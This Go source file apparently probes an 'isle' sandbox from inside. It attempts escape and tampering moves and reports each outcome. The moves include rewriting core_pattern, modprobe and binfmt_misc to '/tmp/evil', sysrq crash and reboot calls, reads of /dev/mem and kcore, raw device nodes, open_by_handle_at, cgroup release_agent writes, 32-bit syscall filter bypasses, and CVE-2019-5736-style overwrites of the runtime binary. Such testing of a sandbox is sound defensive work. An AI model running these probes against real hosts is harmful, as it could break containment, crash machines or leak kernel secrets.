package main

import (
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// settings tries to change the machine through /proc and /sys.
func settings([]string) {
	for path, value := range map[string]string{
		"/proc/sys/kernel/core_pattern":                 "|/tmp/evil",
		"/proc/sys/kernel/modprobe":                     "/tmp/evil",
		"/proc/sys/kernel/hostname":                     "evil",
		"/proc/sys/kernel/domainname":                   "evil",
		"/proc/sys/kernel/randomize_va_space":           "0",
		"/proc/sys/kernel/panic":                        "1",
		"/proc/sys/kernel/sysrq":                        "1",
		"/proc/sys/kernel/dmesg_restrict":               "0",
		"/proc/sys/kernel/pid_max":                      "400",
		"/proc/sys/kernel/ns_last_pid":                  "1",
		"/proc/sys/kernel/msgmax":                       "1",
		"/proc/sys/kernel/shmmax":                       "1",
		"/proc/sys/kernel/unprivileged_bpf_disabled":    "0",
		"/proc/sys/vm/drop_caches":                      "3",
		"/proc/sys/vm/overcommit_memory":                "1",
		"/proc/sys/vm/panic_on_oom":                     "2",
		"/proc/sys/fs/file-max":                         "10",
		"/proc/sys/fs/suid_dumpable":                    "1",
		"/proc/sys/fs/binfmt_misc/register":             ":x:E::x::/tmp/evil:",
		"/proc/sys/fs/inotify/max_user_instances":       "1",
		"/proc/sys/user/max_user_namespaces":            "100000",
		"/proc/sys/net/ipv4/ip_forward":                 "1",
		"/proc/sys/net/ipv4/ip_unprivileged_port_start": "0",
		"/proc/sys/net/ipv4/ping_group_range":           "0 65535",
		"/proc/sys/net/ipv6/conf/all/forwarding":        "1",
		"/proc/sysrq-trigger":                           "c",
		"/proc/irq/default_smp_affinity":                "1",
		"/proc/bus/pci/devices":                         "x",
		"/proc/mtrr":                                    "disable=0",
		"/proc/scsi/scsi":                               "scsi remove-single-device 0 0 0 0",
		"/proc/dynamic_debug/control":                   "module * +p",
		"/proc/self/attr/exec":                          "unconfined",
		"/sys/kernel/uevent_helper":                     "/tmp/evil",
		"/sys/power/state":                              "mem",
		"/sys/kernel/mm/ksm/run":                        "1",
	} {
		try("write "+path, write(path, value))
	}
	name := []byte("evil")
	try("sethostname", unix.Sethostname(name))
	try("setdomainname", unix.Setdomainname(name))
}

// secrets tries to read what the kernel knows of the machine and of others.
func secrets([]string) {
	for _, p := range []string{"/proc/kcore", "/proc/kmsg", "/proc/keys", "/proc/timer_list", "/proc/sched_debug", "/proc/interrupts", "/proc/kpagecount",
		"/proc/kpageflags", "/proc/vmallocinfo", "/proc/slabinfo", "/proc/pagetypeinfo", "/proc/iomem", "/proc/kallsyms", "/proc/modules",
		"/proc/cmdline", "/proc/partitions", "/proc/diskstats", "/proc/config.gz", "/proc/sysrq-trigger", "/dev/kmsg", "/dev/mem", "/dev/port", "/dev/kvm", "/dev/fuse", "/dev/net/tun",
		"/dev/loop-control", "/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/mapper/control", "/dev/userfaultfd", "/dev/vhost-net", "/sys/kernel/debug",
		"/sys/firmware/efi/efivars", "/sys/kernel/security", "/sys/fs/bpf", "/sys/kernel/notes", "/sys/module"} {
		err := open(p, unix.O_RDONLY)
		if err == io.EOF {
			say("read "+p, "EMPTY")
			continue
		}
		try("read "+p, err)
	}
	entries, err := os.ReadDir("/sys")
	if err != nil {
		try("list /sys", err)
	} else {
		say("entries in /sys", fmt.Sprint(len(entries)))
	}
	say("addresses in /proc/kallsyms", addresses("/proc/kallsyms"))
	for action, what := range map[uintptr]string{2: "read", 3: "read all", 4: "read and clear", 5: "clear", 6: "console off", 8: "console level", 9: "unread", 10: "size"} {
		buffer := make([]byte, 64)
		try("syslog "+what, call(unix.SYS_SYSLOG, action, uintptr(unsafe.Pointer(&buffer[0])), 64))
	}
	// What mounts say of the machine's paths.
	b, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		try("read mountinfo", err)
	}
	for line := range strings.Lines(string(b)) {
		if f := strings.Fields(line); len(f) > 4 && (strings.Contains(line, "cgroup") || strings.Contains(line, "sandboxes") || strings.Contains(line, "isle-escape")) {
			say("mountinfo tells", line)
		}
	}
}

// addresses says whether a file of symbols begins with an address that is not
// zero.
func addresses(path string) string {
	b, err := os.ReadFile(path)
	if err != nil {
		return outcome(err)
	}
	for line := range strings.Lines(string(b)) {
		if at, _, _ := strings.Cut(line, " "); strings.Trim(at, "0") != "" {
			return "DONE " + line
		}
	}
	return "none"
}

// kernel tries the calls that reach deep into the kernel.
func kernel([]string) {
	page := make([]byte, 4096)
	at := uintptr(unsafe.Pointer(&page[0]))
	name, err := unix.BytePtrFromString("isle")
	if err != nil {
		return
	}
	s := uintptr(unsafe.Pointer(name))
	var none uintptr
	for _, c := range []struct {
		what   string
		number uintptr
		args   []uintptr
	}{
		{"init_module", unix.SYS_INIT_MODULE, []uintptr{at, 4096, s}},
		{"finit_module", unix.SYS_FINIT_MODULE, []uintptr{0, s, 0}},
		{"delete_module", unix.SYS_DELETE_MODULE, []uintptr{s, unix.O_NONBLOCK}},
		{"bpf map", unix.SYS_BPF, []uintptr{0, at, 128}},
		{"bpf program", unix.SYS_BPF, []uintptr{5, at, 128}},
		{"bpf by id", unix.SYS_BPF, []uintptr{13, at, 128}},
		{"perf_event_open", unix.SYS_PERF_EVENT_OPEN, []uintptr{at, 0, ^none, ^none, 0}},
		{"userfaultfd", unix.SYS_USERFAULTFD, []uintptr{0}},
		{"userfaultfd, user mode only", unix.SYS_USERFAULTFD, []uintptr{1}},
		{"add_key", unix.SYS_ADD_KEY, []uintptr{s, s, at, 4, ^none - 2}},
		{"request_key", unix.SYS_REQUEST_KEY, []uintptr{s, s, 0, ^none - 2}},
		{"keyctl join session", unix.SYS_KEYCTL, []uintptr{1, 0}},
		{"keyctl session keyring", unix.SYS_KEYCTL, []uintptr{0, ^none - 2, 1}},
		{"keyctl persistent keyring", unix.SYS_KEYCTL, []uintptr{22, 0, ^none - 2}},
		{"io_uring_setup", unix.SYS_IO_URING_SETUP, []uintptr{8, at}},
		{"io_uring_enter", unix.SYS_IO_URING_ENTER, []uintptr{0, 0, 0, 0, 0}},
		{"io_uring_register", unix.SYS_IO_URING_REGISTER, []uintptr{0, 0, 0, 0}},
		{"io_setup, whose contexts the machine shares", unix.SYS_IO_SETUP, []uintptr{1, at}},
		{"kexec_load", unix.SYS_KEXEC_LOAD, []uintptr{0, 0, 0, 0}},
		{"kexec_file_load", unix.SYS_KEXEC_FILE_LOAD, []uintptr{0, 0, 0, 0, 0}},
		{"reboot", unix.SYS_REBOOT, []uintptr{unix.LINUX_REBOOT_MAGIC1, unix.LINUX_REBOOT_MAGIC2, unix.LINUX_REBOOT_CMD_RESTART, 0}},
		{"power off", unix.SYS_REBOOT, []uintptr{unix.LINUX_REBOOT_MAGIC1, unix.LINUX_REBOOT_MAGIC2, unix.LINUX_REBOOT_CMD_POWER_OFF, 0}},
		{"ctrl-alt-del off", unix.SYS_REBOOT, []uintptr{unix.LINUX_REBOOT_MAGIC1, unix.LINUX_REBOOT_MAGIC2, unix.LINUX_REBOOT_CMD_CAD_OFF, 0}},
		{"swapon", unix.SYS_SWAPON, []uintptr{s, 0}},
		{"swapoff", unix.SYS_SWAPOFF, []uintptr{s}},
		{"quotactl", unix.SYS_QUOTACTL, []uintptr{0x80000200, s, 0, at}},
		{"quotactl_fd", unix.SYS_QUOTACTL_FD, []uintptr{0, 0x80000200, 0, at}},
		{"acct", unix.SYS_ACCT, []uintptr{0}},
		{"fanotify_init", unix.SYS_FANOTIFY_INIT, []uintptr{0, 0}},
		{"lookup_dcookie", unix.SYS_LOOKUP_DCOOKIE, []uintptr{1, at, 4096}},
		{"set_mempolicy", unix.SYS_SET_MEMPOLICY, []uintptr{0, 0, 0}},
		{"mbind", unix.SYS_MBIND, []uintptr{at &^ 4095, 4096, 0, 0, 0, 0}},
		{"vhangup", unix.SYS_VHANGUP, nil},
		{"personality without address randomization", unix.SYS_PERSONALITY, []uintptr{0x40000}},
		{"personality with readable code", unix.SYS_PERSONALITY, []uintptr{0x400000}},
		{"a system call of the future", 1000, nil},
	} {
		try(c.what, call(c.number, c.args...))
	}
	runtime.KeepAlive(name)
	runtime.KeepAlive(page)
}

// clock tries to change the time.
func clock([]string) {
	now := unix.Timespec{Sec: 1}
	try("clock_settime", unix.ClockSettime(unix.CLOCK_REALTIME, &now))
	try("clock_settime of TAI", unix.ClockSettime(unix.CLOCK_TAI, &now))
	try("settimeofday", unix.Settimeofday(&unix.Timeval{Sec: 1}))
	_, err := unix.Adjtimex(&unix.Timex{Modes: unix.ADJ_TICK, Tick: 9000})
	try("adjtimex", err)
	_, err = unix.ClockAdjtime(unix.CLOCK_REALTIME, &unix.Timex{Modes: unix.ADJ_OFFSET, Offset: 1e6})
	try("clock_adjtime", err)
}

// foreign makes system calls by other tables than the filter's: 32-bit ones
// and those of x32. Each runs in a process of its own, on a thread that may be
// killed for it.
func foreign(args []string) {
	if len(args) == 0 {
		for _, how := range []string{"int80", "x32"} {
			out, err := exec.Command("/attacker", "foreign", how).Output()
			say("system call by "+how, strings.TrimSpace(string(out)+" "+outcome(err)))
		}
		return
	}
	runtime.LockOSThread() // the main thread stays here
	thread := make(chan int)
	answer := make(chan int, 1)
	go func() {
		runtime.LockOSThread()
		thread <- unix.Gettid()
		switch args[0] {
		case "int80":
			answer <- int80()
		case "x32":
			const x32 = 0x40000000
			pid, _, errno := unix.RawSyscall(x32|unix.SYS_GETPID, 0, 0, 0)
			answer <- int(pid) - 2*int(errno)
		}
	}()
	task := fmt.Sprintf("/proc/self/task/%d", <-thread)
	for {
		select {
		case n := <-answer:
			if n != os.Getpid() {
				fmt.Print("ENOSYS")
				os.Exit(3)
			}
			return
		case <-time.After(10 * time.Millisecond):
			if _, err := os.Stat(task); err != nil {
				fmt.Print("KILLED")
				os.Exit(3)
			}
		}
	}
}

// devices tries to make and open device nodes.
func devices([]string) {
	for _, d := range []struct {
		name         string
		kind         uint32
		major, minor uint32
	}{
		{"mem", unix.S_IFCHR, 1, 1}, {"kmsg", unix.S_IFCHR, 1, 11}, {"port", unix.S_IFCHR, 1, 4}, {"null", unix.S_IFCHR, 1, 3},
		{"tun", unix.S_IFCHR, 10, 200}, {"fuse", unix.S_IFCHR, 10, 229}, {"loop-control", unix.S_IFCHR, 10, 237}, {"kvm", unix.S_IFCHR, 10, 232},
		{"sda", unix.S_IFBLK, 8, 0}, {"vda", unix.S_IFBLK, 254, 0}, {"nvme", unix.S_IFBLK, 259, 0}, {"loop0", unix.S_IFBLK, 7, 0},
	} {
		for _, dir := range []string{"/data", "/tmp", "/dev", "/dev/shm"} {
			path := filepath.Join(dir, "attack-"+d.name)
			err := unix.Mknod(path, d.kind|0o666, int(unix.Mkdev(d.major, d.minor)))
			if err == nil {
				err = open(path, unix.O_RDWR)
				os.Remove(path)
			}
			try(fmt.Sprintf("make and open %s in %s", d.name, dir), err)
		}
	}
	entries, _ := os.ReadDir("/dev")
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	say("what is in /dev", strings.Join(names, " "))
	for _, path := range []string{"/dev/console", "/dev/tty", "/dev/tty0", "/dev/ttyS0", "/dev/ptmx", "/dev/null"} {
		err := open(path, unix.O_RDWR)
		try("open "+path, err)
	}
	fd, err := unix.Open("/dev/ptmx", unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err == nil {
		_, err = unix.IoctlRetInt(fd, unix.TIOCCONS)
		unix.Close(fd)
	}
	try("take the machine's console", err)
}

// handles tries to open files by handle, past every path.
func handles([]string) {
	_, _, err := unix.NameToHandleAt(unix.AT_FDCWD, "/data", 0)
	try("name_to_handle_at", err)
	// The root folder of an ext4 file system is inode 2, generation 0.
	h := unix.NewFileHandle(1, []byte{2, 0, 0, 0, 0, 0, 0, 0})
	fd, err := unix.Open("/data", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil { // has no volume
		fd, err = unix.Open("/", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	}
	if err == nil {
		_, err = unix.OpenByHandleAt(fd, h, unix.O_RDONLY)
		unix.Close(fd)
	}
	try("open_by_handle_at above the volume", err)
}

// cgroups tries to find control groups, and to leave its own.
func cgroups([]string) {
	b, err := os.ReadFile("/proc/self/cgroup")
	if err != nil {
		try("read /proc/self/cgroup", err)
	}
	for line := range strings.Lines(string(b)) {
		f := strings.SplitN(strings.TrimSpace(line), ":", 3)
		if len(f) == 3 && strings.Contains(f[2], "isle") {
			say("own control group", line)
		}
	}
	m, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		try("read mountinfo", err)
	}
	say("control groups mounted", fmt.Sprint(strings.Count(string(m), "cgroup")))
	for _, p := range []string{"/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/fs/cgroup/release_agent", "/proc/1/cgroup"} {
		try("write "+p, write(p, "0"))
	}
}

// binaries tries to change the programs of the machine that are within sight:
// the way of CVE-2019-5736.
func binaries([]string) {
	for _, p := range []string{"/isle/init", "/proc/1/exe", "/proc/self/exe"} {
		try("write "+p, open(p, unix.O_WRONLY))
		try("truncate "+p, unix.Truncate(p, 0))
		try("chmod "+p, os.Chmod(p, 0o777))
		try("chown "+p, os.Chown(p, 0, 0))
		try("set an attribute of "+p, unix.Setxattr(p, "user.x", []byte("x"), 0))
	}
	try("link /isle/init", os.Link("/isle/init", "/tmp/init"))
	fd, err := unix.Open("/isle/init", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err == nil {
		defer unix.Close(fd)
		try("reopen /isle/init for writing", open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY))
		m, err := unix.Mmap(fd, 0, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
		if err == nil {
			unix.Munmap(m)
		}
		try("map /isle/init for writing", err)
		flags := 0
		try("clear the flags of /isle/init", func() error {
			_, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.FS_IOC_SETFLAGS, uintptr(unsafe.Pointer(&flags)))
			if errno != 0 {
				return errno
			}
			return nil
		}())
	}
	// Every process that starts, in the hope that one is the runtime.
	var found error = syscall.ENOENT
	for range 2000 {
		exes, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, e := range exes {
			to, err := os.Readlink(e)
			if err != nil || to == "/attacker" || to == "/isle/init" {
				continue
			}
			if err := open(e, unix.O_WRONLY); err == nil {
				found = nil
			}
		}
	}
	try("write the runtime's binary", found)
}
